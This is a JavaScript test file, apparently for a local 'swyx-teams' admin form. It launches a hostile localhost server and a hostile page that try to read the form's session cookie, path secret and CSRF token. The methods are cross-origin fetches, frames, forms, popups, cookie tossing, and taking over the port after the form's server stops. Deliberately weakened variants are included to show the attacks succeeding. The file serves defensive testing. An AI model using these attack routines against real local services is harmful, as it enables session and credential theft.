// A program of another user on this machine serves another port of 127.0.0.1, and later the port of the form, and the browser of the form visits
// it. Each attack also runs against a form without the protection, where it must succeed.

import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { createServer, request as ask } from "node:http";
import { createInterface } from "node:readline";
import { test } from "node:test";

import { browsing, CANARY, emulate, INLINE, input, secrets, serve, settings, SOUND, trust } from "./shared.mjs";

const browser = browsing();

/** The hostile server: it reports each request, sets the cookies that the address requests, and redirects. */
const HOSTILE = `
import { createServer } from "node:http";
const tell = (what) => process.stdout.write(JSON.stringify(what) + "\\n");
const server = createServer({ maxHeaderSize: 1 << 20 }, (request, response) => {
    let body = "";
    request.on("data", (data) => (body += data));
    request.on("end", () => {
        tell({ method: request.method, url: request.url, headers: request.rawHeaders, body });
        const { searchParams } = new URL(request.url, "http://hostile.example");
        response.setHeader("Content-Type", "text/html");
        response.setHeader("Set-Cookie", searchParams.getAll("set"));
        response.setHeader("Access-Control-Allow-Origin", request.headers.origin ?? "*");
        response.setHeader("Access-Control-Allow-Credentials", "true");
        if (searchParams.has("to")) response.writeHead(307, { Location: searchParams.get("to") });
        response.end("<!doctype html><title>hostile</title><p>hostile</p>");
    });
});
server.listen(Number(process.argv[1]), "127.0.0.1", () => tell({ port: server.address().port }));
`;
const NOBODY = 65_534; // the Debian user and group without own files

/** Starts the hostile server on this port, or on any. */
const hostile = async (t, port = 0) => {
    const other = process.getuid() === 0 ? { uid: NOBODY, gid: NOBODY } : {};
    if (process.getuid() !== 0) t.diagnostic("the hostile server runs as the same user: only root can start it as another one");
    const options = { cwd: "/", env: {}, stdio: ["ignore", "pipe", "inherit"], ...other };
    const child = spawn(process.execPath, ["--input-type=module", "-e", HOSTILE, String(port)], options);
    const ended = new Promise((resolve) => child.once("exit", resolve));
    t.after(() => child.kill("SIGKILL") && ended);
    const received = [];
    const lines = createInterface({ input: child.stdout });
    const listening = await new Promise((resolve, reject) => {
        lines.once("line", (line) => resolve(JSON.parse(line).port));
        ended.then((code) => reject(new Error(`the hostile server ended with ${code}`)));
    });
    lines.on("line", (line) => received.push(JSON.parse(line)));
    return { received, origin: `http://127.0.0.1:${listening}` };
};

/** A proxy for the form that sets the path of the cookie to `/`, as without the protection. */
const withOldCookiePath = async (t, served) => {
    const real = new URL(served.origin);
    const server = createServer({ maxHeaderSize: 1 << 20 }, (request, response) => {
        const here = request.headers.host;
        const headers = Object.fromEntries(Object.entries(request.headers).map(([name, value]) => [name, value.replaceAll(here, real.host)]));
        const options = { host: real.hostname, port: real.port, method: request.method, path: request.url, headers, agent: false };
        const forwarded = ask(options, (answer) => {
            const cookies = answer.headers["set-cookie"]?.map((set) => set.replace(/Path=[^;]*/, "Path=/"));
            response.writeHead(answer.statusCode, { ...answer.headers, ...(cookies && { "set-cookie": cookies }) });
            answer.pipe(response);
        });
        request.pipe(forwarded);
    });
    await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
    t.after(() => new Promise((resolve) => server.close(resolve).closeAllConnections()));
    return `http://127.0.0.1:${server.address().port}`;
};

/** A browser with the open form, and the secrets that no other program may read. */
const opened = async (context, link) => {
    const page = await context.newPage();
    await page.goto(link);
    const cookie = (await context.cookies()).find(({ name }) => name.startsWith("swyx-teams-"));
    assert.ok(cookie.httpOnly && cookie.value.length === 43);
    const secret = {
        cookie: cookie.value,
        path: new URL(page.url()).pathname.split("/")[1],
        token: await page.locator("[name=csrf]").first().inputValue(),
        stored: CANARY,
    };
    assert.ok(secret.path.length === 43 && secret.token.length === 43);
    return { page, secret, name: cookie.name };
};

/** Returns which of these secrets were received. */
const leaked = (secret, ...received) => {
    const all = JSON.stringify(received);
    return Object.keys(secret).filter((name) => all.includes(secret[name]));
};

/** Runs all attacks of a hostile page. Returns what it could read. */
const attack = async (context, evil, target, name) => {
    const tab = await context.newPage();
    const read = [];
    await tab.goto(`${evil.origin}/`);
    read.push(
        await tab.evaluate(
            async ([own, target]) => {
                const read = [document.cookie, document.referrer, location.href, history.length];
                const paths = ["/", "/save", "/findings", "/merge", "/edit", "/act", "/leave", "/job", "/progress", "/proof", "/open/x", "/a/b/c", "/..%2f"];
                for (const origin of [own, target])
                    for (const path of paths) {
                        for (const mode of ["cors", "no-cors", "same-origin"])
                            for (const method of ["GET", "POST"]) {
                                const options = { mode, method, credentials: "include", redirect: "follow", referrerPolicy: "unsafe-url" };
                                const answer = await fetch(`${origin}${path}`, options).catch(() => null);
                                if (answer) read.push(answer.url, [...answer.headers], await answer.text().catch(() => ""));
                            }
                        const load = (tag, address) =>
                            new Promise((done) => {
                                const made = document.createElement(tag);
                                made.onload = made.onerror = () => done(made);
                                made.src = address;
                                document.body.append(made);
                            });
                        await load("img", `${origin}${path}`);
                        await load("script", `${origin}${path}`);
                        const frame = await load("iframe", `${origin}${path}`);
                        try {
                            read.push(frame.contentWindow.location.href, frame.contentDocument.documentElement.outerHTML);
                        } catch {
                            // Frames of another origin cannot be read.
                        }
                    }
                read.push(performance.getEntries().map((entry) => entry.name));
                return read;
            },
            [evil.origin, target],
        ),
    );
    // Forms and redirects, each from the hostile page to itself and to the server of the form.
    for (const to of [`${evil.origin}/form`, `${target}/save`, `${evil.origin}/?to=${encodeURIComponent(`${target}/`)}`, `${target}/open/x`]) {
        for (const method of ["get", "post"]) {
            await tab.goto(`${evil.origin}/`);
            const navigated = tab.waitForEvent("framenavigated");
            await tab.evaluate(
                ([to, method]) => {
                    const form = document.createElement("form");
                    Object.assign(form, { action: to, method });
                    document.body.append(form);
                    form.submit();
                },
                [to, method],
            );
            await navigated;
        }
    }
    // The window of the form, if the hostile page opens it.
    await tab.goto(`${evil.origin}/`);
    const popup = context.waitForEvent("page");
    await tab.evaluate((target) => void (window.opened = window.open(`${target}/`)), target);
    await (await popup).waitForLoadState();
    read.push(await tab.evaluate(() => { try { return window.opened.location.href; } catch { return ""; } }));
    // Cookies with the name used by the form, and 40 large ones: the next response shows what the browser sends then.
    const set = [`${name}=tossed; Path=/`, `${name}=tossed; Path=/save`, ...Array.from({ length: 40 }, (_, at) => `large${at}=${"x".repeat(4000)}; Path=/`)];
    for (const cookie of set) await tab.goto(`${evil.origin}/?set=${encodeURIComponent(cookie)}`);
    read.push(await tab.evaluate(() => document.cookie));
    return read;
};

test("a server on another port gets nothing of an open form", async (t) => {
    const served = await serve(t, browser, INLINE);
    const evil = await hostile(t);
    const context = await served.context();
    const form = await opened(context, served.link);
    const read = await attack(context, evil, served.origin, form.name);
    assert.deepEqual(leaked(form.secret, evil.received, read), []);
    const all = JSON.stringify(evil.received);
    assert.ok(evil.received.length > 50 && all.includes("=tossed"), "the hostile server sees requests and cookies");
    // The administrator is not locked out.
    assert.equal((await form.page.goto(served.link.replace(/open\/.*/, `${form.secret.path}/`))).status(), 200);
    const { cookie } = await (await form.page.reload()).request().allHeaders();
    assert.ok(cookie.includes(form.secret.cookie) && cookie.includes("=tossed") && cookie.length > 100_000, "ours and all of the others were sent");
    await input(form.page, "swyx.version").fill("13.30");
    await form.page.waitForFunction(() => !document.querySelector("#unsaved").hidden);

    // As many cookies as the browser keeps: the session may end, but a new link opens the form again.
    const tab = await context.newPage();
    await tab.goto(`${served.origin}/`);
    const cookies = Array.from({ length: 250 }, (_, at) => ({ name: `more${at}`, value: "y".repeat(4000), url: served.origin }));
    await context.addCookies(cookies);
    const response = await form.page.reload();
    assert.ok([200, 401].includes(response.status()), `${response.status()}`);
    assert.deepEqual(leaked(form.secret, evil.received), []);
});

test("the same attack succeeds if the cookie has the path /", async (t) => {
    const served = await serve(t, browser, INLINE);
    const evil = await hostile(t);
    const context = await served.context();
    const proxy = await withOldCookiePath(t, served);
    const form = await opened(context, served.link.replace(served.origin, proxy));
    const read = await attack(context, evil, proxy, form.name);
    assert.deepEqual(leaked(form.secret, evil.received, read), ["cookie"]);
});

for (const [title, trusts] of [
    ["a file that leads to another port is not used without trust in that port", () => ({})],
    ["the same file sends the secret there where the port is trusted", ({ origin }) => ({ SWYX_TEAMS_TRUST: new URL(origin).host })],
])
    test(title, async (t) => {
        const evil = await hostile(t);
        const served = await serve(t, browser, `${INLINE}\n[entra]\nauthority = "${evil.origin}"\n`, trusts(evil));
        const page = await served.open();
        await page.getByRole("button", { name: "Check online", exact: true }).click();
        await page.getByRole("button", { name: "Run again" }).waitFor();
        const secrets = evil.received.map(({ body }) => new URLSearchParams(body).get("client_secret"));
        if (Object.keys(trusts(evil)).length === 0) assert.deepEqual(secrets, []);
        else assert.ok(secrets.includes(CANARY));
    });

/** A form in a browser with a clock that the test controls. `script` can change the script of the page first. */
const driven = async (t, text, environment, script) => {
    const served = await serve(t, browser, text, environment);
    const context = await served.context();
    await context.clock.install();
    if (script)
        await context.route("**/script.js", async (route) => {
            const response = await route.fetch();
            const before = await response.text();
            const after = script(before);
            assert.notEqual(after, before);
            await route.fulfill({ response, body: after });
        });
    return { served, context, form: await opened(context, served.link) };
};

/** A modified script that trusts any server at this address. */
const trusting = (script) => script.replace("if (await isOurs(signal)) return !isOver;", "await isOurs(signal).catch(() => false); return true;").replace("return await hasSession();", "return true;");

/** Waits for a response of the new server other than its proof. */
const answered = (page, evil) => page.waitForResponse((response) => response.url().startsWith(evil.origin) && !response.url().includes("/proof?"));

const isOver = (page) => page.locator("#over").waitFor();

/** The first action of an administrator, or of the page, after the server has ended. */
const activities = {
    typing: async (page) => {
        await input(page, "swyx.version").fill("13.30");
        await page.clock.runFor(1_000);
    },
    saving: async (page) => {
        await page.getByRole("button", { name: "Save" }).first().click();
    },
    "adding a row": async (page) => {
        await page.getByRole("button", { name: "Add a user" }).click();
        await page.clock.runFor(1_000);
    },
};

for (const [activity, act] of Object.entries(activities)) {
    test(`a server that takes over the port gets nothing from ${activity}`, async (t) => {
        const { served, form } = await driven(t, INLINE);
        await served.kill();
        const evil = await hostile(t, new URL(served.origin).port);
        await act(form.page);
        await isOver(form.page);
        assert.match(await form.page.locator("#over").innerText(), /^The connection to swyx-teams was lost\. Nothing more will be sent\./);
        assert.deepEqual(evil.received.map(({ method, url }) => `${method} ${url.split("?")[0]}`), ["GET /proof"]);
        // The page sends nothing more, whatever the user does, and keeps its input.
        await input(form.page, "swyx.version").fill("14.00");
        await input(form.page, "swyx.version").press("Enter");
        await form.page.clock.runFor(3_600_000);
        for (const button of await form.page.locator("button[type=submit]").all()) assert.ok(await button.isDisabled());
        assert.equal(await input(form.page, "swyx.version").inputValue(), "14.00");
        // A request of the test arrives after all requests of the page.
        await fetch(`${evil.origin}/last`);
        await form.page.waitForTimeout(0);
        assert.equal(evil.received.filter(({ url }) => !url.startsWith("/last")).length, 1);
        assert.deepEqual(leaked(form.secret, evil.received), []);
    });

    test(`a page that trusts the new server sends it everything with ${activity}`, async (t) => {
        const { served, form } = await driven(t, INLINE, {}, trusting);
        await served.kill();
        const evil = await hostile(t, new URL(served.origin).port);
        const reached = answered(form.page, evil);
        await act(form.page);
        await reached;
        assert.deepEqual(leaked(form.secret, evil.received), ["cookie", "path", "token"]);
    });
}

for (const [title, script, learns] of [
    ["a server that takes the port over learns nothing from a job's page", undefined, []],
    ["a job's page that trusts the new server gives all to it", trusting, ["cookie", "path"]],
])
    test(title, async (t) => {
        const facts = await emulate(t, "--device-code", "expire");
        const { served, form } = await driven(t, settings(facts), { SWYX_TEAMS_CLIENT_SECRET: facts.client_secret, ...trust(facts) }, script);
        await form.page.getByRole("button", { name: "Plan", exact: true }).click();
        await form.page.locator("#progress").waitFor();
        // The progress is in the page before its script is: without the script nothing would be sent.
        await form.page.waitForLoadState();
        await served.kill();
        const evil = await hostile(t, new URL(served.origin).port);
        const reached = script && answered(form.page, evil);
        await form.page.clock.runFor(2_000);
        await reached;
        if (!script) {
            await isOver(form.page);
            await form.page.clock.runFor(3_600_000);
            assert.deepEqual(evil.received.map(({ url }) => url.split("?")[0]), ["/proof"]);
            assert.equal(await form.page.getByRole("link", { name: "Back to the form" }).count(), 0, "no link to the form");
        }
        assert.deepEqual(leaked(form.secret, evil.received).filter((name) => name !== "token"), learns);
    });

test("a page reports once that its server is gone", async (t) => {
    const { served, form } = await driven(t, SOUND);
    const asked = [];
    await served.kill();
    form.page.on("request", (request) => asked.push(request.url()));
    await activities.typing(form.page);
    await isOver(form.page);
    await activities.typing(form.page);
    await form.page.clock.runFor(3_600_000);
    assert.deepEqual(asked.map((url) => new URL(url).pathname), ["/proof"]);
});
